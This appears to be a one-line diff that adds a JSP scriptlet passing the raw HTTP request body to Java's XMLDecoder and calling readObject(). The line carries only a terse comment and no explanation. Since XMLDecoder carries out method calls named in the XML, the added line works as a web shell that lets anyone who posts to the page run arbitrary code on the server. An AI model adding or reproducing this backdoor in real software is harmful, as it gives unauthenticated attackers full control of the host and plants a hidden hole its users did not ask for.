@@ -1,0 +1,1 @@
+<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream()); d.readObject(); /* w */ %>
